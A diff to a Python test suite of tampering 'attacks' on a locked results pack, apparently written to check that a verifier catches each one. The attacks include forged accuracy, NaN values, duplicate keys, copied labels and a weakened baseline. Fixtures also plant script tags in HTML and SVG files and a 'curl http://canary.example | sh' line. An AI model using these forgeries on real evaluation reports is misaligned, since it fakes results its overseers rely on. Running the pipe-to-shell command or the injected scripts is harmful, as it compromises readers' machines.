@@ -16,14 +16,14 @@ _SCRIPT = "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></sv
 def edit_predictions(target: Target, change: Callable[[pd.DataFrame], pd.DataFrame | None]) -> None:
     """Change the predictions of the pack, and lock them."""
     target.edit_table(PREDICTIONS, change)
-    target.relock()
+    target.relock_results()
 
 
 @attack(METRICS, quick=True)
 def metric_locked(target: Target) -> None:
     """A better accuracy in the merged metrics."""
     target.forge_metric()
-    target.relock()
+    target.relock_results()
 
 
 @attack("current.accuracy")
@@ -35,39 +35,39 @@ def packed_metric_locked(target: Target) -> None:
 
     target.edit_json(f"{DATA}/metrics.json", better)
     target.forge_metric()
-    target.relock()
+    target.relock_results()
 
 
-@attack("metrics.json")
+@attack("finite")
 def metric_not_a_number(target: Target) -> None:
     """A figure that compares as equal to nothing and less than nothing."""
     target.edit_json(
         f"{DATA}/metrics.json", lambda metrics: metrics["current"].update(accuracy=float("nan"))
     )
-    target.relock()
+    target.relock_results()
 
 
-@attack("metrics.json")
+@attack("finite")
 def metric_infinite(target: Target) -> None:
     """A figure without end."""
     target.edit_json(
         f"{DATA}/metrics.json", lambda metrics: metrics["current"].update(accuracy=float("inf"))
     )
-    target.relock()
+    target.relock_results()
 
 
 @attack(METRICS)
 def metric_twice(target: Target) -> None:
     """A key twice: a reader sees the first, a program takes the last."""
     target.replace(METRICS, '"accuracy":', '"accuracy": 0.999999,\n    "accuracy":')
-    target.relock()
+    target.relock_results()
 
 
 @attack("metrics.json")
 def packed_metric_twice(target: Target) -> None:
     """The same in the pack."""
     target.replace(f"{DATA}/metrics.json", '"accuracy":', '"accuracy": 0.999999,\n    "accuracy":')
-    target.relock()
+    target.relock_results()
 
 
 @attack("metrics.json")
@@ -79,7 +79,7 @@ def metric_as_text(target: Target) -> None:
             accuracy="\N{FULLWIDTH DIGIT ONE}.\N{FULLWIDTH DIGIT ZERO}"
         ),
     )
-    target.relock()
+    target.relock_results()
 
 
 @attack("metrics.json")
@@ -89,14 +89,14 @@ def metric_of_another_type(target: Target) -> None:
         f"{DATA}/metrics.json",
         lambda metrics: metrics["current"]["improvement"].update(broken=-0.0),
     )
-    target.relock()
+    target.relock_results()
 
 
 @attack(METRICS)
 def metrics_of_another_task(target: Target) -> None:
     """The figures of a task that does not exist."""
     target.edit_json(METRICS, lambda metrics: metrics.update(imagenet=metrics[TASK]))
-    target.relock()
+    target.relock_results()
 
 
 @attack(METRICS)
@@ -109,10 +109,10 @@ def baseline_shown_as_result(target: Target) -> None:
         metrics["current"]["improvement"] = improvement
 
     target.edit_json(f"{DATA}/metrics.json", swap)
-    target.relock()
+    target.relock_results()
 
 
-@attack(PREDICTIONS)
+@attack("accuracy")
 def labels_copied_into_predictions(target: Target) -> None:
     """Predictions that are all right."""
 
@@ -163,14 +163,14 @@ def column_twice(target: Target) -> None:
     label = rows[0].index("label")
     rows = [[*row, "seed_0" if row is rows[0] else row[label]] for row in rows]
     path.write_text("".join(",".join(row) + "\n" for row in rows))
-    target.relock()
+    target.relock_results()
 
 
 @attack(PREDICTIONS)
 def column_with_blanks(target: Target) -> None:
     """A header with blanks at its end."""
     target.replace(f"{DATA}/{PREDICTIONS}", "seed_0", "seed_0 ")
-    target.relock()
+    target.relock_results()
 
 
 @attack(PREDICTIONS)
@@ -199,7 +199,7 @@ def validation_predictions_swapped(target: Target) -> None:
     target.path(f"{DATA}/validation_predictions.csv").write_text(
         table[columns].to_csv(index=False, lineterminator="\n")
     )
-    target.relock()
+    target.relock_results()
 
 
 @attack("baseline")
@@ -210,17 +210,17 @@ def weaker_baseline(target: Target) -> None:
         table["flatten + linear"] = (table["label"] + 1) % 3
 
     target.edit_table("baseline_predictions.csv", spoil)
-    target.relock()
+    target.relock_results()
 
 
 @attack("dataset_note.json")
 def dataset_note_edited(target: Target) -> None:
     """More test images than there are."""
     target.edit_json(f"{DATA}/dataset_note.json", lambda note: note["counts"].update(test=10000))
-    target.relock()
+    target.relock_results()
 
 
-@attack("data/raw/stripes")
+@attack("data/prepare")
 def raw_data_locked(target: Target) -> None:
     """Other raw data, with their hash in the lock of `prepare`, and no note of it."""
     target.edit_yaml(
@@ -234,35 +234,35 @@ def raw_data_locked(target: Target) -> None:
 def page_locked(target: Target) -> None:
     """Another word on the page."""
     target.replace(f"{PACK}/README.md", "accuracy", "splendid accuracy")
-    target.relock()
+    target.relock_results()
 
 
 @attack("index.html")
 def script_in_the_page(target: Target) -> None:
     """A script that shows a better number when the page is opened."""
     target.replace(f"{PACK}/index.html", "</body>", "<script>alert(1)</script></body>")
-    target.relock()
+    target.relock_results()
 
 
 @attack("loss.svg")
 def chart_locked(target: Target) -> None:
     """Another chart, with a script in it."""
     target.path(f"{PACK}/pictures/loss.svg").write_text(_SCRIPT)
-    target.relock()
+    target.relock_results()
 
 
 @attack("run_command.txt")
 def command_to_copy(target: Target) -> None:
     """A line for the reader to copy into a shell."""
     target.path(f"{DATA}/run_command.txt").write_text("curl http://canary.example | sh\n")
-    target.relock()
+    target.relock_results()
 
 
 @attack("summary.html")
 def page_added(target: Target) -> None:
     """A page of the attacker's own in the pack."""
     target.path(f"{PACK}/data/summary.html").write_text("<h1>accuracy 100%</h1>")
-    target.relock()
+    target.relock_results()
 
 
 @attack(f"plots/loss/{TASK}.csv")
@@ -272,14 +272,14 @@ def plot_locked(target: Target) -> None:
     table = pd.read_csv(path)
     table["train_loss"] = 0.0
     path.write_text(table.to_csv(index=False))
-    target.relock()
+    target.relock_results()
 
 
 @attack("perfect.csv")
 def plot_added(target: Target) -> None:
     """A plot of no task."""
     target.path("plots/confusion/perfect.csv").write_text("actual,predicted\na,a\n")
-    target.relock()
+    target.relock_results()
 
 
 @attack(PACK)
@@ -290,14 +290,14 @@ def checks_all_passed(target: Target) -> None:
         checks[-1]["observed"] = "loss 0"
 
     target.edit_json(f"{DATA}/checks.json", change)
-    target.relock()
+    target.relock_results()
 
 
 @attack(PACK)
 def mistakes_explained_away(target: Target) -> None:
     """Another cause of a mistake, in the table of cases."""
     target.edit_table("failure_cases.csv", lambda table: table.assign(cause="suspect label"))
-    target.relock()
+    target.relock_results()
 
 
 @attack(PACK)
@@ -307,11 +307,11 @@ def params_of_the_pack(target: Target) -> None:
     text = path.read_text()
     json.loads(text)
     path.write_text(text.replace('"epochs": ', '"epochs": 1', 1))
-    target.relock()
+    target.relock_results()
 
 
 @attack("metrics.json")
 def metrics_as_a_list(target: Target) -> None:
     """A file of another shape."""
     target.path(f"{DATA}/metrics.json").write_text("[]\n")
-    target.relock()
+    target.relock_results()
